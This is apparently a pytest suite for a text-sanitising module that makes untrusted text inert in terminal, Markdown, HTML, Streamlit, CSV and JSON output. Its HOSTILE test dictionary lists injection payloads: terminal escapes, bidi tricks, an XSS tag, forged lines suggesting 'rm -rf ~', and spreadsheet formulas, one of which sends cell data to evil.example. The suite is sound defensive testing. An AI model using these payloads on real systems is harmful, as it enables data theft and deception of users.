"""`tracker/foreign_text.py`: nothing that others wrote is live at any exit."""

from __future__ import annotations

import csv
import io
import json
import re
import sys
import time
import unicodedata
from html.parser import HTMLParser
from xml.etree import ElementTree as ET

import markdown
import pytest

from tracker.foreign_text import (
    csv_cell,
    html_text,
    indented,
    json_text,
    markdown_code,
    markdown_text,
    one_line,
    printable,
    streamlit_text,
)

HOSTILE = {
    "escape": "\x1b]0;owned\x07\x1b[31m",
    "c1": "a\x9b31m\x85b",
    "bidi": "a\u202eb\u2066c\u2069\u200f",
    "no width": "a\u200bb\u200dc\ufeff\u00ad",
    "line separators": "a\u2028b\u2029c\x0bd\x0ce",
    "half a surrogate": "a\ud800b\udfff",
    "nul": "a\0b",
    "tags": "a\U000e0041\U000e0001",
    "forged lines": "x\nerror: all is lost\r\nhint: run `rm -rf ~`\rdone",
    "image": "MMLU ![b](http://evil.example/b.png)",
    "link": "[a](http://evil.example) [b]: http://evil.example",
    "reference": "[a][b] <http://evil.example> http://evil.example www.evil.example evil.example",
    "html": "<img src=x onerror=alert(1)> <script>x</script> &lt;b&gt; <!-- x -->",
    "leave the code": "``code` **bold** [a](http://evil.example) <img src=x>`",
    "back-ticks": "a`b``c```d",
    "mentions": "@everyone @here <!channel> <@U123> mail@evil.example",
    "headings": "# a\n## b\n- c\n1. d\n> e\n---\n| a | b |\n===",
    "emphasis": "*a* **b** _c_ __d__ ~~e~~ ||f||",
    "streamlit": ":red[x] :material/star: :streamlit: $x^2$ $$y$$ :blue-badge[z]",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "hidden formula": " \t=1+1",
    "plus": "+1+1",
    "minus": "-2+3|cmd",
    "at": "@SUM(1)",
    "tab": "\t=1",
    "carriage return": "\r=1",
    "wide": "\uff1d1+1",
}
LIVE_TAGS = {"a", "img", "script", "h1", "h2", "h3", "hr", "ul", "ol", "blockquote", "table", "em", "strong"}


def acting(text: str) -> set[str]:
    """The characters of `text` that act without being seen."""
    return {c for c in text if unicodedata.category(c) in {"Cc", "Cf", "Cs", "Zl", "Zp"} and c not in "\n\t"}


class Tags(HTMLParser):
    """Collects the tags of a document."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append(tag)


def tags(html: str) -> set[str]:
    parser = Tags()
    parser.feed(html)
    return set(parser.found)


def test_foreign_text_every_character_that_acts_unseen_is_known() -> None:
    kinds = {"Cc", "Cf", "Cs", "Zl", "Zp"}
    acts = [chr(code) for code in range(sys.maxunicode + 1) if unicodedata.category(chr(code)) in kinds]
    left = [character for character in acts if character not in "\n\t" and printable(character) == character]
    assert left == []


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_foreign_text_on_a_terminal_has_nothing_that_acts(text: str) -> None:
    for exit_ in (printable, one_line, indented):
        assert not acting(exit_(text))
        exit_(text).encode()
    assert "\n" not in one_line(text)
    assert all(line.startswith("  ") for line in indented(text).splitlines()[1:])


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_foreign_text_in_markdown_is_no_link_picture_or_markup(text: str) -> None:
    code, prose = markdown_code(text), markdown_text(text)
    page = f"- {code} on {prose}\n- [{code}](https://hub.example/a): {prose}\n"
    html = markdown.markdown(page, extensions=["tables", "sane_lists"])
    assert tags(html) <= {"ul", "li", "code", "a", "p"}
    assert re.findall(r'href="([^"]*)"', html) == ["https://hub.example/a"]
    assert len(page.splitlines()) == 2
    # what a chat or a forge would make a link or a mention of stands in code only
    outside = re.sub(r"(`+) ?.*?(?<!`)\1(?!`)", "", prose)
    assert not re.search(r"://|www\.|@|#\d|:\w+:", outside)
    assert not re.search(r"<[!@#]", page)
    assert not acting(page) - {"\u200b"}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_foreign_text_in_html_and_xml_is_text(text: str) -> None:
    shown = html_text(text)
    assert tags(shown) <= {"code"}
    assert tags(f'<p title="{shown}">') == {"p"}
    root = ET.Element("a")
    root.text = shown
    assert ET.fromstring(ET.tostring(root)).text == shown
    assert not acting(shown)


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_foreign_text_in_streamlit_has_every_mark_escaped(text: str) -> None:
    shown = streamlit_text(text)
    assert not re.search(r"(?<!\\)(?:\\\\)*[`*_\[\]()<>|#!~&:$^{}]", re.sub(r"\\[^\w\s]", "", shown))
    assert not re.search(r"://\w|www\.\w|@\w", shown)
    assert not acting(shown) - {"\u200b"}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_foreign_text_in_a_spreadsheet_is_no_formula(text: str) -> None:
    out = io.StringIO()
    csv.writer(out).writerow([csv_cell(text)])
    ((cell,),) = csv.reader(io.StringIO(out.getvalue()))
    assert not re.match(r"\s*[=+\-@\uff1d]", cell)
    assert not acting(cell)


@pytest.mark.parametrize(
    "value", [-1.5, 3, None, True, "-1.5", "+3", "1e-5", "-2E+10", "a=b", "x-1", "", "größe"]
)
def test_foreign_text_numbers_and_harmless_text_stay_in_a_spreadsheet(value: object) -> None:
    assert csv_cell(value) == value


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_foreign_text_a_json_document_stays_the_same_and_acts_on_no_terminal(text: str) -> None:
    written = json_text({"name": text, text: [text]})
    assert not acting(written)
    written.encode()
    assert json.loads(written) == {"name": text, text: [text]}


def test_foreign_text_ordinary_names_stay_readable() -> None:
    name = "org/Model-7B_v1.5-instruct"
    assert markdown_code(name) == f"`{name}`"
    assert markdown_text(f" scores 50.0% on `{name}` (epoch)") == f" scores 50.0% on `{name}` (epoch)"
    assert printable("模型 größe\n\tß") == "模型 größe\n\tß"
    assert one_line("a\n b") == "a b"
    assert indented("a\nb") == "a\n  b"


@pytest.mark.parametrize(
    "text", ["\U0001f468\u200d\U0001f469\u200d\U0001f467", "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645"]
)
def test_foreign_text_joiners_that_spelling_needs_are_kept(text: str) -> None:
    assert printable(text) == csv_cell(text) == text
    assert printable(f"a{text[-1]}\u200db") != f"a{text[-1]}\u200db"


@pytest.mark.parametrize("text", ["12:30:45", "2026-01-02T10:00:00Z"])
def test_foreign_text_a_time_is_no_code_in_markdown(text: str) -> None:
    assert "`" not in markdown_text(text)


def test_foreign_text_takes_linear_time() -> None:
    began_s = time.process_time()
    for text in (" " * 200_000 + "x", "\t " * 100_000, "x" * 200_000, "a:" * 100_000):
        one_line(text)
        markdown_text(text)
    assert time.process_time() - began_s < 5
